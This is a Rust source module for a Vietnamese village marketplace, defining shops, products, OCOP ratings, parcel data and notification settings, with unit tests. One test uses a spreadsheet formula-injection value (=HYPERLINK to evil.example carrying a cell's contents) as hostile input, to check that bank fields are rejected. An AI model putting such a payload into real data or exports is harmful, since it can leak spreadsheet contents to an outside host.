//! Villages, shops and products: their types, rules and storage.
//!
//! A product never has a price of its own: it points at an item of its village's price
//! board (`pricing`), and every read of a product joins that item's agreed price.

pub mod categories;
pub mod helpers;
pub mod photos;
pub mod store;
pub use categories::Category;

use serde::{Deserialize, Serialize};

use crate::domain::text::{clean_line, clean_text};
use crate::domain::{Email, PhoneVn};
use crate::error::{AppError, FieldErrors};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, utoipa::ToSchema)]
pub struct VillageId(pub i64);
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, utoipa::ToSchema)]
pub struct ShopId(pub i64);
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, utoipa::ToSchema)]
pub struct ProductId(pub i64);

#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct Village {
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub id: VillageId,
    pub slug: String,
    pub name: String,
    pub commune: String,
    pub district: String,
    pub province: String,
    pub story: String,
    pub quorum_min_yes: i64,
    pub quorum_percent: i64,
    pub proposal_days: i64,
}

#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct Shop {
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub id: ShopId,
    pub slug: String,
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub village_id: VillageId,
    #[serde(skip)]
    pub owner_id: Option<i64>,
    pub name: String,
    pub phone: String,
    pub email: Option<String>,
    #[serde(skip)]
    pub zalo_phone: Option<String>,
    #[serde(skip)]
    pub telegram_chat_id: Option<String>,
    pub bank_bin: Option<String>,
    pub bank_account_no: Option<String>,
    pub bank_account_name: Option<String>,
    pub story: String,
    pub active: bool,
    /// `pending` until the village's moderator accepts the shop onto the board, then
    /// `accepted` (or `rejected`). Only accepted shops list products, propose and vote.
    pub membership: String,
    /// When the moderator decided the membership.
    #[serde(skip)]
    pub membership_at: Option<i64>,
    /// Whether `email` was confirmed through the link mailed to it (notices go only then).
    pub email_confirmed: bool,
    /// Payouts wait until this time after the payout account changed.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub payout_hold_until: Option<i64>,
    pub notify_email: bool,
    pub notify_zalo: bool,
    pub notify_telegram: bool,
}

impl Shop {
    /// When the village accepted this shop, if that was in the last two weeks (its dashboard
    /// says so until then).
    pub fn accepted_recently(&self, now: i64) -> Option<i64> {
        self.membership_at
            .filter(|at| self.membership == "accepted" && now - at < 14 * 24 * 3_600_000)
    }

    /// What anyone may see of a shop: no email, bank account or notice settings (only its
    /// owner and admins see those, through the full `Shop`).
    /// What anyone may see of a shop.
    pub fn public(&self) -> PublicShop {
        PublicShop {
            id: self.id,
            slug: self.slug.clone(),
            village_id: self.village_id,
            name: self.name.clone(),
            phone: self.phone.clone(),
            story: self.story.clone(),
            active: self.active,
        }
    }

    pub fn is_member(&self) -> bool {
        self.active && self.membership == "accepted"
    }
}

/// A shop's public face (no email, bank account or notice settings). Its schema allows no
/// other field, so it and `Shop` never both describe one answer.
#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
pub struct PublicShop {
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub id: ShopId,
    pub slug: String,
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub village_id: VillageId,
    pub name: String,
    pub phone: String,
    pub story: String,
    pub active: bool,
}

/// A product as lists show it, with the agreed price of its price item.
#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct ProductCard {
    pub id: ProductId,
    pub slug: String,
    pub name: String,
    pub price_vnd: i64,
    pub unit: String,
    pub stock: i64,
    pub ocop_stars: Option<i64>,
    /// The stars were confirmed by the village's moderator (or an admin).
    pub ocop_verified: bool,
    pub category: String,
    pub price_item_id: i64,
    pub shop_slug: String,
    pub shop_name: String,
    pub village_slug: String,
    pub village_name: String,
    pub thumb: Option<String>,
    pub active: bool,
}

#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct Photo {
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub id: i64,
    pub file_name: String,
    pub thumb_name: String,
}

#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct ProductDetail {
    #[serde(flatten)]
    pub card: ProductCard,
    pub description: String,
    pub maker: String,
    pub materials: String,
    pub made_in: String,
    pub price_item_name: String,
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub shop_id: ShopId,
    /// Internal row id, never in the API (which names things by slug, code or login).
    #[serde(skip)]
    pub village_id: VillageId,
    pub photos: Vec<Photo>,
    /// GTIN-14 when the product carries a GS1 barcode.
    pub gtin: Option<String>,
    pub ocop_cert_no: Option<String>,
    pub ocop_cert_year: Option<i64>,
    /// Weight and packed size, for carriers only: not in the public API.
    #[serde(skip)]
    pub parcel: Parcel,
    /// Set while the product asks to take a price item under another name (not listed until
    /// the village's moderator accepts), or after the moderator refused.
    pub item_request: Option<ItemRequest>,
    pub created_at: i64,
    pub updated_at: i64,
}

/// A product asking to take the agreed price of an item whose name it does not carry.
#[derive(Debug, Clone, Serialize, utoipa::ToSchema)]
pub struct ItemRequest {
    /// `pending` (not listed until decided) or `refused`.
    pub status: String,
    pub item_name: String,
    /// The moderator's reason when refused.
    pub reason: Option<String>,
}

/// Whether a product's name carries a price item's name (case, diacritics and spacing
/// aside): "Màn tuyn 1m6 x 2m xanh cốm" carries "Màn tuyn 1m6 x 2m".
pub fn carries_name(product: &str, item: &str) -> bool {
    let norm = |s: &str| {
        crate::domain::text::fold(s)
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    let (p, i) = (norm(product), norm(item));
    !i.is_empty() && format!(" {p} ").contains(&format!(" {i} "))
}

/// A moderator's answer to a product's OCOP claim: `confirm` (true) or `reject` (false);
/// anything else is refused, so a malformed request never removes a product's stars.
pub fn parse_ocop_decision(s: &str) -> Result<bool, AppError> {
    match s.trim() {
        "confirm" => Ok(true),
        "reject" => Ok(false),
        _ => Err(AppError::field(
            "decision",
            "Chọn confirm (xác nhận) hoặc reject (từ chối)",
        )),
    }
}

/// A moderator's answer to a product asking for an item: `accept` or `reject`.
pub fn parse_item_decision(s: &str) -> Result<bool, AppError> {
    match s.trim() {
        "accept" => Ok(true),
        "reject" => Ok(false),
        _ => Err(AppError::field(
            "decision",
            "Chọn accept (đồng ý) hoặc reject (từ chối)",
        )),
    }
}

/// OCOP star rating: only 3, 4 and 5 stars are recognised OCOP products.
pub fn parse_ocop(s: &str) -> Result<Option<i64>, String> {
    match s.trim() {
        "" | "0" => Ok(None),
        "3" => Ok(Some(3)),
        "4" => Ok(Some(4)),
        "5" => Ok(Some(5)),
        _ => Err("hạng OCOP chỉ có thể là 3, 4 hoặc 5 sao (hoặc để trống)".into()),
    }
}

pub fn parse_stock(s: &str) -> Result<i64, String> {
    match s.trim().parse::<i64>() {
        Ok(n) if (0..=1_000_000).contains(&n) => Ok(n),
        _ => Err("số lượng tồn kho phải là số nguyên từ 0 đến 1.000.000".into()),
    }
}

/// Product fields a seller may set. There is deliberately no price here.
#[derive(Debug, Clone, Default, Deserialize)]
pub struct ProductInput {
    pub name: String,
    #[serde(default)]
    pub description: String,
    pub category: String,
    pub stock: String,
    #[serde(default)]
    pub ocop_stars: String,
    #[serde(default)]
    pub maker: String,
    #[serde(default)]
    pub materials: String,
    #[serde(default)]
    pub made_in: String,
    pub price_item_id: String,
    /// GS1 barcode number (8, 12, 13 or 14 digits); empty for none.
    #[serde(default)]
    pub gtin: String,
    /// The OCOP certificate behind the stars.
    #[serde(default)]
    pub ocop_cert_no: String,
    #[serde(default)]
    pub ocop_cert_year: String,
    /// Parcel facts for carriers' quotes (grams, cm); empty for the category's defaults.
    #[serde(default)]
    pub weight_g: String,
    #[serde(default)]
    pub length_cm: String,
    #[serde(default)]
    pub width_cm: String,
    #[serde(default)]
    pub height_cm: String,
}

impl ProductInput {
    /// The form as it stands for an existing product (edit forms, PATCH merges).
    pub fn from_detail(p: &ProductDetail) -> ProductInput {
        ProductInput {
            name: p.card.name.clone(),
            description: p.description.clone(),
            category: p.card.category.clone(),
            stock: p.card.stock.to_string(),
            ocop_stars: p.card.ocop_stars.map(|s| s.to_string()).unwrap_or_default(),
            maker: p.maker.clone(),
            materials: p.materials.clone(),
            made_in: p.made_in.clone(),
            price_item_id: p.card.price_item_id.to_string(),
            gtin: p.gtin.clone().unwrap_or_default(),
            ocop_cert_no: p.ocop_cert_no.clone().unwrap_or_default(),
            ocop_cert_year: p.ocop_cert_year.map(|y| y.to_string()).unwrap_or_default(),
            weight_g: text_of(p.parcel.weight_g),
            length_cm: text_of(p.parcel.length_cm),
            width_cm: text_of(p.parcel.width_cm),
            height_cm: text_of(p.parcel.height_cm),
        }
    }
}

fn text_of(v: Option<i64>) -> String {
    v.map(|n| n.to_string()).unwrap_or_default()
}

/// What a parcel weighs and measures packed: grams and centimetres, each optional (a
/// product without them takes its category's defaults, set by the village's moderator).
/// Used for carriers' quotes and bookings; shown to nobody else.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct Parcel {
    pub weight_g: Option<i64>,
    pub length_cm: Option<i64>,
    pub width_cm: Option<i64>,
    pub height_cm: Option<i64>,
}

/// A parcel heavier than this goes by truck, not by a parcel carrier.
pub const MAX_WEIGHT_G: i64 = 100_000;
/// The longest side a parcel may have.
pub const MAX_SIDE_CM: i64 = 300;

impl Parcel {
    /// Parse the four facts as typed ("1,2 kg" is not accepted: grams as a whole number);
    /// problems named `{prefix}weight_g` …
    pub fn parse(
        weight: &str,
        length: &str,
        width: &str,
        height: &str,
        e: &mut FieldErrors,
        prefix: &str,
    ) -> Parcel {
        let mut one = |field: &str, raw: &str, max: i64, what: &str| -> Option<i64> {
            let t: String = raw
                .trim()
                .chars()
                .filter(|c| !matches!(c, '.' | ' '))
                .collect();
            if t.is_empty() {
                return None;
            }
            match t.parse::<i64>() {
                Ok(n) if (1..=max).contains(&n) => Some(n),
                _ => {
                    e.add(
                        &format!("{prefix}{field}"),
                        format!("{what} là số nguyên từ 1 đến {max}"),
                    );
                    None
                }
            }
        };
        Parcel {
            weight_g: one("weight_g", weight, MAX_WEIGHT_G, "cân nặng (gam)"),
            length_cm: one("length_cm", length, MAX_SIDE_CM, "chiều dài (cm)"),
            width_cm: one("width_cm", width, MAX_SIDE_CM, "chiều rộng (cm)"),
            height_cm: one("height_cm", height, MAX_SIDE_CM, "chiều cao (cm)"),
        }
    }

    /// These facts, each missing one taken from `fallback`.
    pub fn or(self, fallback: Parcel) -> Parcel {
        Parcel {
            weight_g: self.weight_g.or(fallback.weight_g),
            length_cm: self.length_cm.or(fallback.length_cm),
            width_cm: self.width_cm.or(fallback.width_cm),
            height_cm: self.height_cm.or(fallback.height_cm),
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct ProductFields {
    pub name: String,
    pub description: String,
    pub category: String,
    pub stock: i64,
    pub ocop_stars: Option<i64>,
    pub maker: String,
    pub materials: String,
    pub made_in: String,
    pub price_item_id: i64,
    pub gtin: Option<crate::domain::Gtin>,
    /// (number, year) of the OCOP certificate, required with stars.
    pub ocop_cert: Option<(String, i64)>,
    pub parcel: Parcel,
}

impl ProductFields {
    /// Whether a change leaves the moderator's confirmation standing: same stars, same
    /// certificate.
    pub fn same_ocop_claim(&self, p: &ProductDetail) -> bool {
        self.ocop_stars == p.card.ocop_stars
            && self.ocop_cert.as_ref().map(|c| (&c.0, c.1))
                == p.ocop_cert_no.as_ref().zip(p.ocop_cert_year)
    }
}

/// The OCOP certificate's number and year, required when a product claims stars.
fn parse_ocop_cert(
    e: &mut FieldErrors,
    stars: Option<Option<i64>>,
    no: &str,
    year: &str,
    untouched: bool,
) -> Option<(String, i64)> {
    let Some(Some(_)) = stars else { return None };
    // A change that leaves the OCOP claim alone does not ask again for a certificate the
    // product never had (products imported with stars).
    if untouched && no.trim().is_empty() && year.trim().is_empty() {
        return None;
    }
    let this_year = i64::from(chrono::Datelike::year(&crate::domain::today_vn()));
    let no = e.check(
        "ocop_cert_no",
        clean_line(no, "số giấy chứng nhận OCOP", 40),
    );
    let year = e.check(
        "ocop_cert_year",
        match year.trim().parse::<i64>() {
            Ok(y) if (2018..=this_year).contains(&y) => Ok(y),
            _ => Err(format!(
                "năm cấp giấy chứng nhận OCOP từ 2018 đến {this_year}"
            )),
        },
    );
    no.zip(year)
}

impl ProductInput {
    pub fn parse(&self) -> Result<ProductFields, AppError> {
        self.parse_with(false)
    }

    /// `ocop_untouched`: a partial update that does not change the OCOP claim (a PATCH
    /// validates what it changes).
    pub fn parse_with(&self, ocop_untouched: bool) -> Result<ProductFields, AppError> {
        let mut e = FieldErrors::new();
        let name = e.check("name", clean_line(&self.name, "tên sản phẩm", 120));
        let description = e.check("description", clean_text(&self.description, "mô tả", 4000));
        let category = e.check("category", clean_line(&self.category, "loại hàng", 60));
        let stock = e.check("stock", parse_stock(&self.stock));
        let ocop = e.check("ocop_stars", parse_ocop(&self.ocop_stars));
        let maker = e.check("maker", clean_text(&self.maker, "người làm", 200));
        let materials = e.check("materials", clean_text(&self.materials, "chất liệu", 300));
        let made_in = e.check("made_in", clean_text(&self.made_in, "nơi làm", 200));
        let item = e.check(
            "price_item_id",
            self.price_item_id
                .trim()
                .parse::<i64>()
                .map_err(|_| "chọn một mặt hàng trên bảng giá của làng"),
        );
        let gtin = e.check("gtin", optional(&self.gtin, crate::domain::Gtin::parse));
        let ocop_cert = parse_ocop_cert(
            &mut e,
            ocop,
            &self.ocop_cert_no,
            &self.ocop_cert_year,
            ocop_untouched,
        );
        let parcel = Parcel::parse(
            &self.weight_g,
            &self.length_cm,
            &self.width_cm,
            &self.height_cm,
            &mut e,
            "",
        );
        e.into_result()?;
        Ok(ProductFields {
            parcel,
            name: name.unwrap(),
            description: description.unwrap(),
            category: category.unwrap(),
            stock: stock.unwrap(),
            ocop_stars: ocop.unwrap(),
            maker: maker.unwrap(),
            materials: materials.unwrap(),
            made_in: made_in.unwrap(),
            price_item_id: item.unwrap(),
            gtin: gtin.unwrap(),
            ocop_cert,
        })
    }
}

/// Shop fields a seller may set.
#[derive(Debug, Clone, Default, Deserialize)]
pub struct ShopInput {
    pub name: String,
    pub phone: String,
    #[serde(default)]
    pub email: String,
    #[serde(default)]
    pub zalo_phone: String,
    #[serde(default)]
    pub telegram_chat_id: String,
    #[serde(default)]
    pub bank_bin: String,
    #[serde(default)]
    pub bank_account_no: String,
    #[serde(default)]
    pub bank_account_name: String,
    #[serde(default)]
    pub story: String,
    /// The account's password, needed to change the shop's email (a stolen session must not
    /// move the shop's notices, and with them the payout-account alert, elsewhere).
    #[serde(default)]
    pub password: String,
    /// Checkboxes: present ("1") means on.
    #[serde(default)]
    pub notify_email: Option<String>,
    #[serde(default)]
    pub notify_zalo: Option<String>,
    #[serde(default)]
    pub notify_telegram: Option<String>,
}

fn flag(v: &Option<String>) -> bool {
    v.as_deref().is_some_and(|s| s != "0" && s != "false")
}

fn checkbox(on: bool) -> Option<String> {
    on.then(|| "1".to_string())
}

impl ShopInput {
    /// The form as it stands for an existing shop (edit forms, PATCH merges).
    pub fn from_shop(s: &Shop) -> ShopInput {
        ShopInput {
            name: s.name.clone(),
            phone: s.phone.clone(),
            email: s.email.clone().unwrap_or_default(),
            zalo_phone: s.zalo_phone.clone().unwrap_or_default(),
            telegram_chat_id: s.telegram_chat_id.clone().unwrap_or_default(),
            bank_bin: String::new(),
            bank_account_no: String::new(),
            bank_account_name: String::new(),
            story: s.story.clone(),
            password: String::new(),
            notify_email: checkbox(s.notify_email),
            notify_zalo: checkbox(s.notify_zalo),
            notify_telegram: checkbox(s.notify_telegram),
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct ShopFields {
    pub name: String,
    pub phone: PhoneVn,
    pub email: Option<Email>,
    pub zalo_phone: Option<PhoneVn>,
    pub telegram_chat_id: Option<String>,
    pub story: String,
    /// Channels for notices: email, Zalo, Telegram.
    pub notify: (bool, bool, bool),
}

fn optional<T>(s: &str, f: impl Fn(&str) -> Result<T, String>) -> Result<Option<T>, String> {
    if s.trim().is_empty() {
        Ok(None)
    } else {
        f(s).map(Some)
    }
}

impl ShopInput {
    pub fn parse(&self) -> Result<ShopFields, AppError> {
        let mut e = FieldErrors::new();
        let name = e.check("name", clean_line(&self.name, "tên cửa hàng", 80));
        let phone = e.check("phone", PhoneVn::parse(&self.phone));
        let email = e.check("email", optional(&self.email, Email::parse));
        let zalo = e.check("zalo_phone", optional(&self.zalo_phone, PhoneVn::parse));
        let telegram = e.check(
            "telegram_chat_id",
            optional(&self.telegram_chat_id, |s| {
                // Bots can write to a person or group only by its numeric chat id; an
                // "@name" would be accepted by nobody and every notice to it lost.
                let s = s.trim();
                if s.starts_with('@') {
                    Err("Telegram không cho bot nhắn tới @tên; hãy nhập mã chat là một dãy số (xem hướng dẫn bên dưới ô)".into())
                } else if s.strip_prefix('-').unwrap_or(s).parse::<i64>().is_ok() && s.len() <= 20 {
                    Ok(s.to_string())
                } else {
                    Err("Mã chat Telegram là một dãy số, ví dụ 123456789 (nhóm: -1001234567890)".into())
                }
            }),
        );
        // Where the money goes is set only through the payout account (password, bank list,
        // hold, audit, notice: `payouts::store::set_account`), never with the shop's details.
        for (field, value) in [
            ("bank_bin", &self.bank_bin),
            ("bank_account_no", &self.bank_account_no),
            ("bank_account_name", &self.bank_account_name),
        ] {
            if !value.trim().is_empty() {
                e.add(
                    field,
                    "Tài khoản nhận tiền chỉ đặt ở mục “Tài khoản nhận tiền” (kèm mật khẩu), không đặt cùng thông tin cửa hàng",
                );
            }
        }
        let story = e.check("story", clean_text(&self.story, "giới thiệu", 4000));
        e.into_result()?;
        Ok(ShopFields {
            name: name.unwrap(),
            phone: phone.unwrap(),
            email: email.unwrap(),
            zalo_phone: zalo.unwrap(),
            telegram_chat_id: telegram.unwrap(),
            story: story.unwrap(),
            notify: (
                flag(&self.notify_email),
                flag(&self.notify_zalo),
                flag(&self.notify_telegram),
            ),
        })
    }
}

/// The folded text simple search matches against.
pub fn search_text(parts: &[&str]) -> String {
    crate::domain::text::fold(&parts.join(" "))
}

/// Whether a shop can be told something on one channel now, and what is missing if not.
#[derive(Debug, Clone, serde::Serialize, PartialEq, utoipa::ToSchema)]
pub struct Reach {
    /// `email`, `zalo` or `telegram`
    pub channel: &'static str,
    /// The shop asked for notices on this channel.
    pub enabled: bool,
    /// A notice on this channel would be sent (Chợ Làng has it set up, the shop has what it
    /// needs: a confirmed email, a Telegram chat id).
    pub can_deliver: bool,
    /// Why it cannot deliver, in words for the seller ("" when it can).
    pub missing: String,
}

/// The three channels for a shop, given this installation's notice settings.
pub fn reach(config: &crate::config::NotifyConfig, shop: &Shop) -> [Reach; 3] {
    let email_ok = shop.email.is_some() && shop.email_confirmed;
    let email_missing = match (&shop.email, shop.email_confirmed) {
        (None, _) => "Chưa có email".to_string(),
        (Some(_), false) => {
            "Email chưa xác nhận: hãy bấm liên kết trong thư Chợ Làng đã gửi".to_string()
        }
        _ => String::new(),
    };
    let zalo_ok = config.zalo.is_some();
    let telegram_ok = config.telegram.is_some() && shop.telegram_chat_id.is_some();
    let telegram_missing = if config.telegram.is_none() {
        "Telegram chưa bật trên Chợ Làng".to_string()
    } else if shop.telegram_chat_id.is_none() {
        "Chưa có mã chat Telegram: nhắn /start cho bot Chợ Làng rồi dán mã chat (một dãy số) vào ô trên".to_string()
    } else {
        String::new()
    };
    [
        Reach {
            channel: "email",
            enabled: shop.notify_email,
            can_deliver: email_ok,
            missing: email_missing,
        },
        Reach {
            channel: "zalo",
            enabled: shop.notify_zalo,
            can_deliver: zalo_ok,
            missing: if zalo_ok {
                String::new()
            } else {
                "Zalo chưa bật trên Chợ Làng".into()
            },
        },
        Reach {
            channel: "telegram",
            enabled: shop.notify_telegram,
            can_deliver: telegram_ok,
            missing: telegram_missing,
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_product_carries_its_items_name() {
        assert!(carries_name(
            "Màn tuyn 1m6 x 2m xanh cốm",
            "Màn tuyn 1m6 x 2m"
        ));
        assert!(carries_name("man tuyn  1m6 x 2M", "Màn tuyn 1m6 x 2m"));
        assert!(!carries_name("Móc treo màn inox", "Bàn trà gỗ mít 1m"));
        // whole words only: "1m" is not "1m6"
        assert!(!carries_name("Màn tuyn 1m6", "Màn tuyn 1m"));
        assert!(!carries_name("Màn", ""));
    }

    #[test]
    fn ocop_only_three_to_five() {
        assert_eq!(parse_ocop("").unwrap(), None);
        assert_eq!(parse_ocop("4").unwrap(), Some(4));
        assert!(parse_ocop("2").is_err());
        assert!(parse_ocop("6").is_err());
        assert!(parse_ocop("four").is_err());
    }

    #[test]
    fn product_input_reports_each_bad_field() {
        let input = ProductInput {
            name: "".into(),
            category: "Màn tuyn".into(),
            stock: "-1".into(),
            ocop_stars: "7".into(),
            price_item_id: "x".into(),
            ..Default::default()
        };
        let Err(AppError::Validation(f)) = input.parse() else {
            panic!()
        };
        for k in ["name", "stock", "ocop_stars", "price_item_id"] {
            assert!(f.get(k).is_some(), "{k}");
        }
        assert!(f.get("category").is_none());
    }

    #[test]
    fn shop_details_never_carry_bank_fields() {
        let s = ShopInput {
            name: "Màn tuyn Bà Lan".into(),
            phone: "0912345678".into(),
            bank_bin: "999999".into(),
            bank_account_no: "ABCDEF123".into(),
            bank_account_name: r#"=HYPERLINK("http://evil.example/?"&A1,"Bam vao")"#.into(),
            ..Default::default()
        };
        let Err(AppError::Validation(f)) = s.parse() else {
            panic!()
        };
        for k in ["bank_bin", "bank_account_no", "bank_account_name"] {
            assert!(f.get(k).is_some(), "{k}");
        }
        let ok = ShopInput {
            bank_bin: String::new(),
            bank_account_no: String::new(),
            bank_account_name: String::new(),
            ..s
        };
        assert!(ok.parse().is_ok());
    }
}
